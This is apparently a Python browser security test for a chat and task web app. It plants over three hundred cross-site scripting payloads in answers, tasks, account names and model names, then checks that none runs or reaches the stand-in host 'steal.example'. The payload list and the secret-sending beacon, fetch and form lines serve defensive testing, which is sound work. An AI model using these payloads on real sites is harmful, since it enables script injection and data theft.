"""Attacks 14 and 15: script, and secret requests, in whatever a model, a node or a person writes.

More than three hundred payloads (vectors in contexts) stand in answers, questions, titles, tasks, errors, and names of
models and chat accounts. One Chromium looks at every page that shows them, loads an answer as it grows, pokes at each
element, and tries what the policy of each page must forbid. Nothing may run, ask, open or leave: a marker stays unset,
two servers that listen for it hear nothing, and nobody is asked for confirmation.
"""

from __future__ import annotations

import asyncio
import itertools
import os
import shutil
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any

import pytest
from playwright.async_api import Browser, Page, async_playwright, expect

from halext.accounts.links.types import ChatAccount
from halext.accounts.types import Caller
from halext.runtime.shapes_tasks import AddTask
from halext.runtime.verbs.tasks import add_task
from halext.types import EndpointId, ModelName
from halext.upstream import ModelInfo
from tests.browser.conftest import FLAGS
from tests.web.conftest import SIGHTING

if TYPE_CHECKING:
    from tests.attacks.conftest import Sentinel
    from tests.web.conftest import House

pytestmark = pytest.mark.browser

RUN = "window.hxran=1"
HOST = "steal.example"
"""Whatever is asked of it goes through the proxy, which listens for it."""


def vectors(port: int) -> list[str]:
    """What would run, or ask a server for something; `port` is the one that listens on this machine."""
    here, there = f"http://127.0.0.1:{port}/x", f"http://{HOST}/?q=secret"
    return [
        f"<script>{RUN}</script>",
        f"<script src={here}></script>",
        f"<img src=x onerror={RUN}>",
        f"<img src={there}>",
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data={here}></object><embed src={here}>",
        f"<details open ontoggle={RUN}>",
        f"<video autoplay src={here} onloadstart={RUN}></video>",
        f"<audio src={here} onerror={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<a href='javascript:{RUN}'>a</a>",
        f"<form action={here}><button autofocus>a</button></form>",
        f"<meta http-equiv=refresh content='0;url={there}'>",
        f"<base href={there}>",
        f"<link rel=stylesheet href={there}><link rel=prefetch href={here}><link rel=dns-prefetch href=//{HOST}>",
        f"<style>@import '{there}';body{{background:url({here})}}</style>",
        f"<p style='background:url({here})' onmouseover={RUN}>a</p>",
        f"<template><script>{RUN}</script></template><slot onslotchange={RUN}>",
        f"javascript:{RUN}",
        f"JaVaScRiPt&colon;{RUN}",
        f"java\tscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"vbscript:{RUN}",
        f"//{HOST}/?q=secret",
        there,
        f"blob:{there}",
        f'"><script>{RUN}</script>',
        f"' onmouseover='{RUN}' x='",
        f"</textarea></title></script><script>{RUN}</script>",
        f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
        f"<!--><script>{RUN}</script>-->",
        f"<![CDATA[><script>{RUN}</script>]]>",
        f"\u003cscript\u003e{RUN}\u003c/script\u003e&lt;script&gt;{RUN}&lt;/script&gt;",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    ]


CONTEXTS = (
    "{}",
    "**{}**",
    "[link]({})",
    '[link](<{}> "{}")',
    "![picture]({})",
    "<{}>",
    "`{}` and ``{}``",
    "```{}\n{}\n```",
    "| a |\n|---|\n| {} |",
    "> - # {}",
    "[ref]: {}\n\n[ref] ![ref]",
)


def corpus(port: int) -> list[str]:
    return [context.replace("{}", vector) for context, vector in itertools.product(CONTEXTS, vectors(port))]


@dataclass
class Wire:
    """The proxy of the browser: everything that is not on this machine would pass it. It answers nothing."""

    port: int = 0
    heard: list[str] = field(default_factory=list)

    async def hear(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            self.heard.append((await reader.readline()).decode("latin-1"))
        finally:
            writer.close()


@pytest.fixture
async def wire() -> AsyncIterator[Wire]:
    made = Wire()
    server = await asyncio.start_server(made.hear, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    yield made
    server.close()


@pytest.fixture
async def browser(wire: Wire) -> AsyncIterator[Browser]:
    chromium = shutil.which("chromium")
    if chromium is None:
        reason = "Debian's chromium is not installed: apt-get install chromium"
        if os.environ.get("TEST_REQUIRE_ALL"):
            pytest.fail(reason)
        pytest.skip(reason)
    async with async_playwright() as playwright:
        proxy: Any = {"server": f"http://127.0.0.1:{wire.port}", "bypass": "127.0.0.1"}
        made = await playwright.chromium.launch(executable_path=chromium, args=FLAGS, proxy=proxy)
        yield made
        await made.close()


@dataclass
class Watch:
    """What went wrong on a page."""

    page: Page
    base: str
    wrong: list[str] = field(default_factory=list)
    policies: list[str] = field(default_factory=list)

    def begin(self) -> None:
        page = self.page
        page.on("dialog", lambda dialog: self.wrong.append(f"dialog: {dialog.message}"))
        page.on("popup", lambda _popup: self.wrong.append("a window was opened"))
        page.on("download", lambda _download: self.wrong.append("a download began"))
        page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        page.on("request", lambda request: self.asked(request.url))
        page.on("console", lambda message: self.said(message.text))

    def asked(self, url: str) -> None:
        if not url.startswith(f"{self.base}/"):
            self.wrong.append(f"asked {url}")

    def said(self, line: str) -> None:
        if "Refused to" in line or "violates the following" in line:
            self.wrong.append(f"the policy had to step in: {line}")

    async def visit(self, path: str) -> None:
        """Look at a page, poke at it, and see that nothing came of it."""
        response = await self.page.goto(self.base + path, wait_until="load")
        assert response is not None
        self.policies.append(response.headers.get("content-security-policy", ""))
        await self.poke(path)

    async def poke(self, path: str) -> None:
        found = await self.page.evaluate(POKE)
        if found:
            self.wrong.append(f"{path}: {found}")
        if await self.page.evaluate("window.hxran !== undefined"):
            self.wrong.append(f"{path}: a script ran")


POKE = """() => {
  for (const each of document.querySelectorAll("main *, header *")) {
    for (const kind of ["mouseover", "mouseenter", "focus", "error", "load", "toggle", "animationstart"]) {
      each.dispatchEvent(new Event(kind));
    }
  }
  const bad = [];
  for (const each of document.querySelectorAll("*")) {
    for (const { name, value } of each.attributes) {
      const isAddress = ["href", "src", "action", "formaction", "data", "srcdoc", "poster"].includes(name);
      if (name.startsWith("on") || name === "style") bad.push(`${each.tagName} has ${name}`);
      const scheme = isAddress ? new URL(value, location.href).protocol : "";
      if (scheme && !["http:", "https:", "mailto:"].includes(scheme)) bad.push(`${each.tagName} ${name}=${value}`);
      const isForeign = /^(https?:)?\\/\\//i.test(value);
      if (each.tagName !== "A" && isAddress && isForeign) bad.push(`${each.tagName} loads ${value}`);
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "SVG", "MATH", "VIDEO", "AUDIO"].includes(each.tagName.toUpperCase())) {
      bad.push(each.tagName);
    }
    if (each.tagName === "META" && each.httpEquiv) bad.push("META");
  }
  for (const each of document.querySelectorAll("a[target=_blank]")) {
    if (!each.relList.contains("noopener")) bad.push("a link gives its window away");
  }
  return bad.slice(0, 5).join("; ");
}"""

TRY = """async ([here, there]) => {
  const stopped = [];
  addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
  const add = (tag, fields) => {
    try { document.body.append(Object.assign(document.createElement(tag), fields)); } catch {}
  };
  add("script", { src: here });
  add("script", { text: "window.hxran=1" });
  add("img", { src: there });
  add("img", { src: here });
  add("link", { rel: "stylesheet", href: here });
  add("style", { textContent: `@import '${here}'` });
  add("iframe", { src: here });
  add("object", { data: here });
  add("audio", { src: here });
  try { document.body.innerHTML += `<img src=x onerror='window.hxran=1'>`; } catch { stopped.push("trusted-types"); }
  try { new Worker(here); } catch { stopped.push("worker"); }
  try { await fetch(here, { mode: "no-cors" }); } catch { stopped.push("fetch"); }
  try { new EventSource(here).close(); } catch { stopped.push("events"); }
  navigator.sendBeacon(here, "secret");
  add("form", { action: here, method: "post", id: "leave" });
  document.getElementById("leave")?.submit();
  for (let n = 0; n < 40 && !stopped.includes("form-action"); n++) await new Promise((done) => setTimeout(done, 50));
  return stopped;
}"""


async def person(house: House) -> tuple[Caller, str]:
    session, _ = await house.app.people.sign_in("Mia", "battery staple")
    return await house.app.people.caller_for(session), session


async def fill(house: House, mia: Caller, payloads: list[str]) -> list[str]:
    """Put the payloads wherever somebody can write; the paths of the pages that show them."""
    app, paths = house.app, []
    for batch in (payloads[at : at + 70] for at in range(0, len(payloads), 70)):
        house.script.say(*(f"{payload}\n\n" for payload in batch))
        begun, turn = await app.answers.ask(mia, batch[0][:500], system="")
        async for _ in app.answers.follow(mia, turn.id):
            pass
        paths.append(f"/c/{begun.id}")
    for payload in payloads[:60]:
        await add_task(app, mia, AddTask(title=payload.replace("\n", " ").replace("\t", " ")[:200], notes=payload))
    for number, payload in enumerate(vectors(9)[:12]):
        code = (await app.links.code(mia)).text
        await app.links.claim(ChatAccount("discord", str(number + 1), payload), code)
    odd = tuple(
        ModelInfo(
            ModelName(payload[:100]), f"{number:064x}", 1, payload[:60], payload[:20], payload[:20], 1, frozenset()
        )
        for number, payload in enumerate(payloads[:80])
    )
    sighting = replace(SIGHTING, version=payloads[0][:60], models=(*SIGHTING.models, *odd))
    app.registry.saw(EndpointId("mac/ollama"), sighting, asked_at=app.clock.now())
    return paths


async def test_nothing_runs_and_nothing_leaves(house: House, sentinel: Sentinel, wire: Wire, browser: Browser) -> None:
    payloads = corpus(sentinel.port)
    assert len(payloads) > 300
    mia, session = await person(house)
    conversations = await fill(house, mia, payloads)
    context = await browser.new_context()
    await context.add_cookies([{"name": "hx_session", "value": session, "url": house.url, "httpOnly": True}])
    watch = Watch(await context.new_page(), house.url)
    watch.begin()
    for path in (*conversations, "/", "/tasks", "/nodes", "/account", "/hx/docs", "/hx/tasks", "/v1/models"):
        await watch.visit(path)
    for vector in vectors(sentinel.port)[::5]:
        quoted = "".join(f"%{byte:02x}" for byte in vector.encode())
        await watch.visit(f"/{quoted}")
        await watch.visit(f"/c/1?before={quoted}")
    await live(watch, house, payloads)
    assert watch.wrong == []
    assert sentinel.heard == []
    assert all("unsafe" not in policy and "default-src 'none'" in policy for policy in watch.policies)
    await what_the_policy_forbids(watch.page, house, sentinel)
    assert not any(sentinel.heard)  # the browser may connect before it decides, and then says nothing
    assert [line for line in wire.heard if HOST in line] == []
    await context.close()


async def live(watch: Watch, house: House, payloads: list[str]) -> None:
    """An answer that grows in front of a reader, and a question that is refused."""
    house.script.say(*(f"{payload}\n\n" for payload in payloads[::6]))
    page = watch.page
    await page.goto(f"{house.url}/")
    await page.get_by_label("Your message").fill(payloads[2])
    await page.keyboard.press("Enter")
    await expect(page.locator("article.answer").last).to_have_attribute("aria-busy", "false", timeout=20_000)
    await watch.poke("a live answer")


async def what_the_policy_forbids(page: Page, house: House, sentinel: Sentinel) -> None:
    """As if something had got through: the browser itself must refuse the rest, on every kind of page."""
    for path in ("/", "/tasks", "/nodes", "/account", "/hx/docs", "/nothing-here"):
        await page.goto(house.url + path)
        stopped = await page.evaluate(TRY, [sentinel.url, f"http://{HOST}/x"])
        # What sets the address of a script or an object is stopped before its directive has a say.
        wanted = {"require-trusted-types-for", "img-src", "style-src-elem", "frame-src", "media-src", "connect-src"}
        wanted |= {"trusted-types", "fetch", "worker"}
        assert wanted <= set(stopped), (path, sorted(wanted - set(stopped)), stopped)
        assert page.url == house.url + path  # the form has led nowhere
        assert await page.evaluate("window.hxran === undefined"), path
